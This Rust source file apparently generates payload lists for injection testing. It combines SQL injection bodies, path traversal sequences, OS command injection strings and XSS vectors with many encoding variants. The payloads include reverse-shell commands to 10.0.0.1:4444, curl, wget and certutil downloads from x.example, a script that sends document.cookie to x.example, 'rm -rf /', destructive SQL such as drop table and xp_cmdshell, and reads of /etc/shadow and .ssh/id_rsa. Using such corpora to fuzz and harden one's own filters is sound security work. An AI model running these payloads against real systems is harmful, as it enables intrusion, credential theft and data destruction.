//! Attacks made from the techniques that lists of payloads are made of: each with values before it, ends, and encodings.

pub fn sql() -> Vec<String> {
    let mut attacks = Vec::new();
    let mut n = 0;
    for (body, standing) in SQL {
        for (prefix, quoted) in SQL_PREFIXES {
            if !*standing && !*quoted {
                continue;
            }
            for transform in TRANSFORMS {
                let end = SQL_ENDS[n % SQL_ENDS.len()];
                n += 1;
                let space = if body.starts_with([';', '|', '+', '-']) { "" } else { " " };
                attacks.push(transform(&format!("{prefix}{space}{body}{end}")));
            }
        }
    }
    attacks
}

const SQL_PREFIXES: &[(&str, bool)] = &[
    ("'", true),
    ("x'", true),
    ("\"", true),
    ("1'", true),
    ("')", true),
    ("1'))", true),
    ("admin'", true),
    ("1", false),
    ("-1", false),
    ("5)", false),
    ("null", false),
];

const SQL_ENDS: [&str; 5] = ["--", "-- -", "#", "", " -- x"];

/// Bodies, and whether they also stand behind a number.
const SQL: &[(&str, bool)] = &[
    ("or 1=1", true),
    ("or 'a'='a'", true),
    ("or 2>1", true),
    ("or 1 like 1", true),
    ("|| 1=1", true),
    ("and 1=2", true),
    ("or not 1=2", true),
    ("or true", false),
    ("or 1 in (1,2)", true),
    ("or 5 between 1 and 9", true),
    ("xor 1=1", true),
    ("or (1=1)", true),
    ("or 0x41=0x41", true),
    ("and username is not null", false),
    ("or name like '%a%'", false),
    ("and password='x'", false),
    ("union select 1,2,3", true),
    ("union all select null,null,null", true),
    ("union select @@version,2", true),
    ("union select username,password from users", true),
    ("union(select(1),(2))", true),
    ("union distinct select 1", true),
    ("union select table_name from information_schema.tables", true),
    ("union select char(58),user()", true),
    ("; drop table users", true),
    ("; insert into users values(1,'x')", true),
    ("; exec xp_cmdshell('dir')", true),
    ("; waitfor delay '0:0:5'", true),
    ("; select pg_sleep(5)", true),
    ("; update users set admin=1", true),
    ("; shutdown", true),
    ("; declare @q varchar(99)", true),
    ("; delete from log", true),
    ("; create table x(y int)", true),
    ("; truncate table x", true),
    ("waitfor delay '0:0:9'", true),
    ("and sleep(5)", true),
    ("and (select 1 from (select(sleep(5)))a)", true),
    ("or benchmark(5000000,md5(1))", true),
    ("and ascii(substring((select database()),1,1))>64", true),
    ("and (select count(*) from users)>0", true),
    ("and exists(select 1 from users)", true),
    ("and if(1=1,sleep(5),0)", true),
    ("and case when (1=1) then 1 else 0 end=1", true),
    ("and extractvalue(1,concat(0x7e,version()))", true),
    ("and updatexml(1,concat(0x7e,user()),1)", true),
    ("and 1=cast((select version()) as int)", true),
    ("and 1=convert(int,@@version)", true),
    ("and length(database())=5", true),
    ("or row(1,1)>(select count(*),1)", true),
    ("and pg_sleep(5) is null", true),
    ("order by 10", false),
    ("group by id having 1=1", false),
    ("having 1=1", true),
    ("procedure analyse()", true),
    ("into outfile '/tmp/x'", true),
    ("||(select user from dual)||'", false),
    ("+(select 1)+'", false),
    ("-(select 1)-'", false),
    ("||utl_http.request('http://x.example')||'", false),
];

type Transform = fn(&str) -> String;

const TRANSFORMS: &[Transform] = &[
    str::to_owned,
    mixed_case,
    commented,
    tabs,
    newlines,
    percent_some,
    percent_all,
    percent_twice,
    entities,
    full_width,
    unicode_escapes,
    plus,
];

fn mixed_case(text: &str) -> String {
    text.chars()
        .enumerate()
        .map(|(i, c)| if i % 2 == 0 { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() })
        .collect()
}

fn commented(text: &str) -> String {
    text.replace(' ', "/**/")
}

fn tabs(text: &str) -> String {
    text.replace(' ', "\t")
}

fn newlines(text: &str) -> String {
    text.replace(' ', "\r\n").to_uppercase()
}

pub fn percent_some(text: &str) -> String {
    text.chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || "()*,.".contains(c) {
                c.to_string()
            } else {
                format!("%{:02X}", u32::from(c))
            }
        })
        .collect()
}

fn percent_all(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02x}")).collect()
}

pub fn percent_twice(text: &str) -> String {
    percent_some(text).replace('%', "%25")
}

pub fn entities(text: &str) -> String {
    text.chars()
        .enumerate()
        .map(|(i, c)| {
            if c.is_ascii_alphanumeric() {
                c.to_string()
            } else if i % 2 == 0 {
                format!("&#{};", u32::from(c))
            } else {
                format!("&#x{:x};", u32::from(c))
            }
        })
        .collect()
}

fn full_width(text: &str) -> String {
    text.chars()
        .map(|c| if c.is_ascii_graphic() { char::from_u32(u32::from(c) + 0xfee0).unwrap_or(c) } else { c })
        .collect()
}

fn unicode_escapes(text: &str) -> String {
    text.chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || c == ' ' {
                c.to_string()
            } else {
                format!("\\u{:04x}", u32::from(c))
            }
        })
        .collect()
}

fn plus(text: &str) -> String {
    percent_some(text).replace("%20", "+")
}

pub fn traversal() -> Vec<String> {
    let mut attacks = Vec::new();
    for step in [
        "../",
        "..\\",
        "%2e%2e%2f",
        "%2e%2e/",
        "..%2f",
        "%252e%252e%252f",
        "..%5c",
        "%c0%ae%c0%ae/",
        "..%c0%af",
        "....//",
        "..;/",
        "\u{ff0e}\u{ff0e}\u{ff0f}",
        "..%u2216",
        ".%2e/",
        "..//",
        "..././",
    ] {
        for depth in 2..8 {
            for target in [
                "etc/passwd",
                "etc/shadow",
                "windows/win.ini",
                "proc/self/environ",
                "var/log/apache2/access.log",
                "boot.ini",
                "WEB-INF/web.xml",
                ".ssh/id_rsa",
                "home/user/.bash_history",
            ] {
                for (i, prefix) in ["", "/", "images/", "file=", "./"].into_iter().enumerate() {
                    let end = ["", "%00", "%00.jpg", "", "?x"][(i + depth) % 5];
                    let target =
                        if step.contains('\\') { target.replace('/', "\\") } else { target.to_owned() };
                    attacks.push(format!("{prefix}{}{target}{end}", step.repeat(depth)));
                }
            }
        }
    }
    attacks.extend(
        [
            "/etc/passwd",
            "file:///etc/passwd",
            "php://filter/convert.base64-encode/resource=index.php",
            "C:\\windows\\win.ini",
            "/proc/self/environ",
            "../../",
            "../../../../../../../../x",
        ]
        .map(str::to_owned),
    );
    attacks
}

pub fn command() -> Vec<String> {
    let commands = [
        "id",
        "whoami",
        "cat /etc/passwd",
        "ls -la /",
        "uname -a",
        "sleep 5",
        "ping -c 3 127.0.0.1",
        "curl http://x.example/a",
        "wget http://x.example/a",
        "nc -e /bin/sh 10.0.0.1 4444",
        "nslookup x.example",
        "type C:\\windows\\win.ini",
        "net user",
        "ipconfig /all",
        "cat</etc/passwd",
        "cat${IFS}/etc/passwd",
        "{cat,/etc/passwd}",
        "/bin/cat /etc/passwd",
        "w'h'o'am'i",
        "wh\\oami",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "python3 -c 'import os'",
        "echo vulnerable$((1+1))",
        "rm -rf /",
        "tail /etc/passwd",
        "ping -n 3 127.0.0.1",
        "systeminfo",
        "hostname",
        "powershell -enc abcd",
        "certutil -urlcache -f http://x.example/a a",
    ];
    let mut attacks = Vec::new();
    for command in commands {
        for (i, prefix) in
            ["", "127.0.0.1", "test", "a.txt", "\"", "'", "1", "x@example.org"].into_iter().enumerate()
        {
            for (j, separator) in
                [";", "; ", "|", " | ", " || ", "&", " && ", "\n", ";;"].into_iter().enumerate()
            {
                let end = ["", " #", ";", "", " &&"][(i + j) % 5];
                let plain = format!("{prefix}{separator}{command}{end}");
                attacks.push(if (i + j) % 3 == 0 { percent_some(&plain) } else { plain });
            }
            attacks.push(format!("{prefix}$({command})"));
            attacks.push(format!("{prefix}`{command}`"));
        }
    }
    attacks
}

pub fn xss() -> Vec<String> {
    let mut attacks = Vec::new();
    let encodings: [Transform; 5] = [str::to_owned, mixed_case, percent_some, percent_twice, unicode_escapes];
    for call in [
        "alert(1)",
        "alert`1`",
        "confirm(document.cookie)",
        "eval(atob('YQ=='))",
        "fetch('//x.example/'+document.cookie)",
        "top['al'+'ert'](1)",
    ] {
        for prefix in ["", "\">", "'>", "</title>", "x", "-->", "</textarea>"] {
            for encode in encodings {
                for form in [
                    "<script>@</script>",
                    "<img src=x onerror=@>",
                    "<svg/onload=@>",
                    "<svg onload=\"@\">",
                    "<body onload=@>",
                    "<a href=\"javascript:@\">x</a>",
                    "<iframe src=javascript:@>",
                    "<details open ontoggle=@>",
                    "<input autofocus onfocus=@>",
                    "<video><source onerror=@></video>",
                    "<marquee onstart=@>x</marquee>",
                    "<a href=\"java&#10;script:@\">x</a>",
                    "<math href=\"javascript:@\">x</math>",
                    "<form action=javascript:@><button>",
                    "<script src=//x.example/a.js></script>",
                    "<iframe srcdoc=\"<script>@</script>\">",
                    "<object data=\"data:text/html,<script>@</script>\">",
                    "<svg><script>@</script></svg>",
                    "<img/src/onerror=@>",
                    "<x onclick=@>y",
                    "<svg><animate onbegin=@ attributeName=x dur=1s>",
                ] {
                    attacks.push(encode(&format!("{prefix}{}", form.replace('@', call))));
                }
            }
        }
        for form in [
            "javascript:@",
            "\" onmouseover=@ x=\"",
            "' autofocus onfocus=@ '",
            "JaVaScRiPt:@",
            "java\tscript:@",
        ] {
            attacks.push(form.replace('@', call));
        }
    }
    for call in ["alert(1)", "confirm(1)", "prompt(document.cookie)"] {
        for form in [
            "';@//",
            "\";@;//",
            "'-@-'",
            "\"-@-\"",
            "${@}",
            "{{constructor.constructor('@')()}}",
            "');@;//",
            "\\';@//",
        ] {
            attacks.push(form.replace('@', call));
        }
    }
    attacks
}
